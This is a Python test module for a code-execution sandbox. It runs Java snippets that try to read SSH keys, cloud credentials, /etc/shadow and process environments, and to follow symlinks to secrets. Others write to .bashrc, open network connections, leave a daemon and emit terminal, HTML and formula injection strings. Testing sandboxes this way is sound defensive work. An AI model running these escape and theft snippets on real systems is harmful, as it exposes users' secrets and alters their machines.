"""Direct attempts from inside: code on generated inputs reaches for files, the network and other processes.

One run carries out all of them. Each is a few lines of Java that return what they got hold of, or throw; the
relation then fails with a message that lists how each ended, which the attempts below read from the verdict.
"""

import json
import os
import re
import socket
from pathlib import Path

from canaries import House
from hostile import OWN, STRANGE, codec, innocent, lay, pom
from registry import Broke, NotTried, Part, Severity, attempt
from workbench import Workbench

_MARK = re.compile(r"ENDS-([ho]+)-([\w. -]*)")
_ACTIONS: dict[str, tuple[Severity, str, str]] = {}


def _inside(name: str, severity: Severity, description: str, java: str) -> None:
    """Register an attempt by its Java, which returns text if it got out and throws or returns "" if not."""
    _ACTIONS[name] = (severity, description, java)

    @attempt(
        Part.FENCE, severity, quick=True, name=f"inside-{name.replace('_', '-')}", description=description
    )
    def look(bench: Workbench) -> str:
        house = inside_run(bench)
        ends = json.loads((house.base / "ends.json").read_text())
        if name not in ends:
            raise NotTried("the code did not come to act: " + str(ends.get("?", ""))[:300])
        if ends[name].startswith("OUT"):
            raise Broke(f"code in the fence got hold of it: {ends[name]}")
        return ends[name]


_READ = 'new String(Files.readAllBytes(Paths.get({})), "UTF-8")'
_WRITTEN = "written-by-fenced-code"
#: "" as an answer: a file may have been written in a private folder of that name, so it is looked at from outside
_APPEND = (
    f'Files.write(Paths.get({{}}), "{_WRITTEN}".getBytes(), StandardOpenOption.CREATE, StandardOpenOption.APPEND);'
    ' return "";'
)


def _read(path: str) -> str:
    return f"return {_READ.format(path)};"


def _append(path: str) -> str:
    return _APPEND.format(path)


for _name, _path in {
    "key": 'HOME + "/.ssh/id_rsa"',
    "credentials": 'HOME + "/.aws/credentials"',
    "netrc": 'HOME + "/.netrc"',
    "diary": 'HOME + "/notes/diary.txt"',
    "shadow": '"/etc/shadow"',
    "parent_environment": '"/proc/1/environ"',
}.items():
    _inside(f"read_{_name}", Severity.HIGH, f"Read {_path.replace(chr(34), '')}.", _read(_path))
_inside(
    "read_key_through_root",
    Severity.HIGH,
    "Read a key by way of /proc/self/root.",
    _read('"/proc/self/root" + HOME + "/.ssh/id_rsa"'),
)
_inside(
    "read_key_through_link",
    Severity.HIGH,
    "Read a key through a symbolic link in the scratch folder.",
    'Path p = Paths.get(System.getProperty("java.io.tmpdir"), "keylink"); Files.deleteIfExists(p);'
    ' Files.createSymbolicLink(p, Paths.get(HOME + "/.ssh/id_rsa")); return new String(Files.readAllBytes(p));',
)
_inside(
    "list_home",
    Severity.MEDIUM,
    "List the names in the home.",
    'String[] names = new File(HOME + "/.ssh").list(); return names == null ? "" : String.join(" ", names);',
)
_inside(
    "environment",
    Severity.HIGH,
    "Find secrets among the environment variables.",
    'for (String v : System.getenv().values()) if (v.contains("canary")) return v; return "";',
)
_inside(
    "environments_of_others",
    Severity.HIGH,
    "Find secrets in the environments of other processes.",
    'for (File f : new File("/proc").listFiles()) { try { String s = new String(Files.readAllBytes('
    'new File(f, "environ").toPath())); if (s.contains("canary")) return f.getName(); } '
    'catch (Exception e) { } } return "";',
)
_TARGETS = {
    "bashrc": 'HOME + "/.bashrc"',
    "new_file_at_home": 'HOME + "/PWNED-by-fenced-code"',
    "project": 'PROJECT + "/src/main/java/org/acme/Innocent.java"',
    "records": 'OUT + "/relations.jsonl"',
    "classes": 'OUT + "/build/classes/planted.class"',
    "repository": 'REPOSITORY + "/mrscout-attack-canary"',
    "cache": 'CACHE + "/planted"',
    "mrscout_itself": 'MRSCOUT + "/planted.py"',
}
for _name, _path in _TARGETS.items():
    _inside(f"write_{_name}", Severity.HIGH, f"Write to {_path.replace(chr(34), '')}.", _append(_path))
_inside(
    "write_through_link",
    Severity.HIGH,
    "Write to .bashrc through a symbolic link in the scratch folder.",
    'Path p = Paths.get(System.getProperty("java.io.tmpdir"), "rclink"); Files.deleteIfExists(p);'
    ' Files.createSymbolicLink(p, Paths.get(HOME + "/.bashrc"));'
    ' Files.write(p, "x".getBytes(), StandardOpenOption.APPEND); return "";',
)
_inside(
    "connect_to_loopback",
    Severity.HIGH,
    "Connect to a listener on the machine's loopback.",
    'try (Socket s = new Socket()) { s.connect(new InetSocketAddress("127.0.0.1", PORT), 2000); return "connected"; }',
)
_inside(
    "connect_to_address",
    Severity.HIGH,
    "Connect to an address on the Internet.",
    'try (Socket s = new Socket()) { s.connect(new InetSocketAddress("203.0.113.7", 9), 500); return "connected"; }'
    ' catch (SocketTimeoutException late) { return "a packet was sent"; }',
)
_inside(
    "send_datagram",
    Severity.HIGH,
    "Send a datagram to the machine's loopback.",
    'try (DatagramSocket s = new DatagramSocket()) { byte[] b = "OUT".getBytes(); s.send(new DatagramPacket(b,'
    ' b.length, InetAddress.getByName("127.0.0.1"), PORT)); } return "";',
)
_inside(
    "see_processes",
    Severity.MEDIUM,
    "See processes outside of the fence by their command lines.",
    'for (File f : new File("/proc").listFiles()) { try { String s = new String(Files.readAllBytes('
    'new File(f, "cmdline").toPath())); if (s.contains("supervise.py")) return f.getName(); } '
    'catch (Exception e) { } } return "";',
)
_inside(
    "signal_parent",
    Severity.MEDIUM,
    "Send a signal to mrscout's process.",
    'Process p = new ProcessBuilder("/bin/sh", "-c", "kill -0 SUPERVISOR").start();'
    ' return p.waitFor() == 0 ? "signal sent" : "";'.replace("SUPERVISOR", '" + SUPERVISOR + "'),
)
_inside(
    "leave_a_daemon",
    Severity.MEDIUM,
    "Leave a process behind that outlives the run.",
    'new ProcessBuilder("/bin/sh", "-c", "setsid sleep 7654.321 >/dev/null 2>&1 </dev/null &").start().waitFor(); return "";',
)
_inside(
    "kernel_memory",
    Severity.HIGH,
    "Open the memory of the machine.",
    'for (String d : new String[] {"/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/proc/kcore"}) { try {'
    ' new FileInputStream(d).close(); return d; } catch (IOException e) { } } return "";',
)
_inside(
    "shared_memory",
    Severity.LOW,
    "Leave a file in the machine's /dev/shm and /tmp.",
    'for (String d : new String[] {"/dev/shm", "/tmp"}) { try { Files.write(Paths.get(d, "mrscout-attack-canary"),'
    ' "x".getBytes()); } catch (IOException e) { } } return "";',
)

#: what an attacker would like to see on a terminal, on a page and in a table
_LOUD = (
    '"\\u001b]0;PWNED\\u0007\\u001b[2J\\u001b[H\\u202e<script>alert(1)</script> [x](javascript:alert) =1+1 \\n# Forged"'
    '.concat("![i](http://203.0.113.7/i.png) ]]> &x; {{7*7}} \\u0000")'
)
_MEMBERS = """
    static final String PROJECT = "{project}", OUT = "{out}", REPOSITORY = "{repository}", CACHE = "{cache}";
    static final String MRSCOUT = "{mrscout}", SUPERVISOR = "{supervisor}";
    static final int PORT = {port};
    static String all, details = "";
    interface Action {{ String act() throws Exception; }}
    static String ended(String name, Action action) {{
        try {{
            String got = action.act();
            if (!got.isEmpty()) details += name + " " + got.replaceAll("[^\\\\w. -]", "_") + " ";
            return got.isEmpty() ? "h" : "o";
        }} catch (Throwable refused) {{
            return "h";
        }}
    }}
    static String report() {{
        StringBuilder said = new StringBuilder();
{actions}
        return "ENDS-" + said + "-" + details;
    }}
"""

#: reads what links in the project lead to
_LINKS = """
    static String loot() throws Exception {
        StringBuilder got = new StringBuilder();
        for (String name : new String[] {"/key.txt", "/environ.txt", "/keys/id_rsa", "/deep/diary.txt"}) {
            InputStream in = Carrier.class.getResourceAsStream(name);
            if (in == null) continue;
            byte[] data = new byte[100000];
            int length = in.read(data);
            String text = new String(data, 0, Math.max(length, 0));
            int at = text.indexOf("canary");
            if (at >= 0) got.append(name).append(' ').append(text, at, Math.min(text.length(), at + 26)).append(';');
        }
        for (String line : new String[] {HOME + "/.aws/credentials"}) {
            try { got.append(new String(Files.readAllBytes(Paths.get(line)))); } catch (IOException e) { }
        }
        return "LOOT[" + got + "]";
    }
"""
_LINKED_JAR = """    <dependency>
      <groupId>org.acme</groupId><artifactId>aws</artifactId><version>1</version>
      <scope>system</scope><systemPath>${project.basedir}/lib/aws.jar</systemPath>
    </dependency>"""


def inside_run(bench: Workbench) -> House:
    """The run in which code on generated inputs tries everything above, once."""
    return bench.shared("inside", lambda house: _try_all(bench, house))


def _try_all(bench: Workbench, house: House) -> None:
    roots = {
        "HOME": house.home,
        "PROJECT": house.project,
        "OUT": house.out,
        "REPOSITORY": Path("~/.m2/repository").expanduser(),
        "CACHE": bench.cache,
        "MRSCOUT": Path(__file__).parents[3] / "src" / "mrscout",
    }
    with (
        socket.create_server(("127.0.0.1", 0)) as listener,
        socket.socket(type=socket.SOCK_DGRAM) as datagrams,
    ):
        port = listener.getsockname()[1]
        datagrams.bind(("127.0.0.1", port))
        datagrams.settimeout(0.2)
        actions = "\n".join(
            f'        said.append(ended("{name}", () -> {{ {java} }}));'
            for name, (_, _, java) in _ACTIONS.items()
        )
        members = _MEMBERS.format(
            **{name.lower(): path for name, path in roots.items() if name != "HOME"},
            supervisor=os.getpid(),
            port=port,
            actions=actions,
        )
        files = {
            "pom.xml": pom(_LINKED_JAR),
            **innocent(),
            **codec(
                "Carrier",
                house.home,
                decoding=f'if (!code.equals("{OWN[::-1]}")) return loot();',
                members=_LINKS,
            ),
            **codec(
                "Inside",
                house.home,
                "if (all == null) all = report();",
                decoding=f'if (!code.equals("{OWN[::-1]}")) return all;',
                condition=STRANGE,
                members=members,
            ),
        }
        lay(house.project, {**files, **codec("Loud", house.home, f"throw new AssertionError({_LOUD});")})
        _link_to_secrets(house)
        ran = bench.run(
            house, "run", house.project, "--out", house.out, "--inputs", "4", "--no-candidates", "-j", "1"
        )
        try:
            got = datagrams.recv(16)
        except OSError:
            got = b""
    verdicts = (house.out / "verdicts.jsonl").read_text() if (house.out / "verdicts.jsonl").exists() else ""
    ends: dict[str, str] = {}
    if seen := _MARK.search(verdicts):
        words = {"h": "it was refused", "o": f"OUT: {seen[2]}"}
        ends = {name: words[letter] for name, letter in zip(_ACTIONS, seen[1], strict=True)}
    if got:
        ends["send_datagram"] = "OUT: the datagram arrived"
    if any("7654.321" in line for line in ran.survivors):
        ends["leave_a_daemon"] = "OUT: it outlived the run"
    for folder in ("/dev/shm", "/tmp"):
        if (left := Path(folder, "mrscout-attack-canary")).exists():
            left.unlink()
            ends["shared_memory"] = f"OUT: a file was left in {folder}"
    for name, target in _TARGETS.items():
        root, rest = re.fullmatch(r'(\w+) \+ "/(.*)"', target).groups()
        place = roots[root] / rest
        if place.exists() and _WRITTEN in place.read_text(errors="replace"):
            ends[f"write_{name}"] = f"OUT: {place} was written"
            if root in ("REPOSITORY", "MRSCOUT"):
                place.unlink()
    ends["?"] = f"exit {ran.code}: {ran.last}"
    (house.base / "ends.json").write_text(json.dumps(ends))
    (house.base / "ran.json").write_text(json.dumps(vars(ran)))


def _link_to_secrets(house: House) -> None:
    resources = house.project / "src/test/resources"
    resources.mkdir(parents=True)
    (house.project / "lib").mkdir()
    (resources / "key.txt").symlink_to(house.home / ".ssh/id_rsa")
    (resources / "environ.txt").symlink_to("/proc/self/environ")
    (resources / "keys").symlink_to(house.home / ".ssh")
    (resources / "deep").symlink_to("../../../../home/notes")
    (house.project / "lib/aws.jar").symlink_to(house.home / ".aws/credentials")


@attempt(Part.FENCE, Severity.HIGH, quick=True)
def home_is_as_before(bench: Workbench) -> str:
    """Change anything in the home, seen from outside."""
    house = inside_run(bench)
    if changes := house.changes():
        raise Broke(f"changed: {', '.join(changes)}")
    return "the home is as it was"


@attempt(Part.FENCE, Severity.MEDIUM, quick=True)
def innocent_relation_is_kept(bench: Workbench) -> str:
    """Spoil the verdict of an innocent relation that runs in the same process."""
    return verdict_of_innocent(inside_run(bench))


def verdict_of_innocent(house: House) -> str:
    """Raise Broke unless the innocent codec's relation was tried and no input refutes it."""
    verdicts = [json.loads(line) for line in (house.out / "verdicts.jsonl").read_text().split("\n") if line]
    relations = [json.loads(line) for line in (house.out / "relations.jsonl").read_text().split("\n") if line]
    ids = {
        relation["id"]
        for relation in relations
        if "Innocent" in json.dumps(relation.get("class_under_test", relation))
    }
    found = [verdict["verdict"] for verdict in verdicts if verdict.get("id") in ids]
    if not found:
        raise Broke("the innocent relation has no verdict")
    if any(word not in ("kept", "unsettled") for word in found):
        raise Broke(f"the innocent relation is {found}")
    return f"the innocent relation is {found[0]}"
